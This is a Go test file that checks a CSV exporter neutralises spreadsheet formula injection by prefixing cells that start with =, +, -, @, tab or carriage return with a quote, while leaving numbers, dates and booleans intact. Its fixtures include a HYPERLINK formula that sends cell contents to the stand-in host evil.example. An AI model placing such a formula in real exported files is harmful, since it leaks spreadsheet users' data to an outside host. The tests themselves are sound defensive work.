package outputs

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"slices"
	"testing"
)

func TestNeutralizeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Fasttrack, 1. gang", "Fasttrack, 1. gang"},
		{"2024-Q2", "2024-Q2"},
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"+1+2", "'+1+2"},
		{"-2+3", "'-2+3"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"=", "'="},
		{"+", "'+"},
		{"@", "'@"},
		{"\t", "'\t"},
		{"\r", "'\r"},
		{"==1", "'==1"},    // one quote is enough
		{"-1.5", "'-1.5"},  // text that looks like a number is still text
		{"a=1", "a=1"},     // only the first character starts a formula
		{"'=1", "'=1"},     // a quote does not start a formula
		{" =1", " =1"},     // nor a space, which OWASP does not list
		{"\n=1", "\n=1"},   // nor a line feed
		{"€=1", "€=1"},     // a multi-byte first rune is text
		{"–dash", "–dash"}, // an en dash is not a minus sign
	} {
		if got := neutralizeCell(tc.in); got != tc.want {
			t.Errorf("neutralizeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// A plan's text that a spreadsheet would run as a formula reaches the CSV
// neutralised, while numbers, negative ones too, dates and booleans are
// written as they are.
func TestCSVNeutralizesFormulas(t *testing.T) {
	r := testReport(t)
	labels := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1)", "-2+3", "+1", "\t=1", "\r=1"}
	for i, label := range labels {
		r.Rows[i].Label = label
	}
	r.Rows[0].RequirementID = "=1+1"
	negative := -1.5
	r.Rows[0].Points = &negative
	r.Rows[0].MinPct = -0.25

	data := loadFile(t, Config{Kind: "csv", Path: filepath.Join(t.TempDir(), "scorecard.csv")}, r)
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(Columns, name) }
	for i, label := range labels {
		if got := records[i+1][col("label")]; got != "'"+label {
			t.Errorf("row %d: label = %q, want %q", i, got, "'"+label)
		}
	}
	want := map[string]string{
		"requirement_id": "'=1+1", "points": "-1.5", "min_pct": "-0.25",
		"period_start":    r.Rows[0].PeriodStart.Format(DateLayout),
		"period_complete": "true", "plan": r.Rows[0].Plan, "period": r.Rows[0].Period,
	}
	for name, w := range want {
		if got := records[1][col(name)]; got != w {
			t.Errorf("row 0: %s = %q, want %q", name, got, w)
		}
	}
}
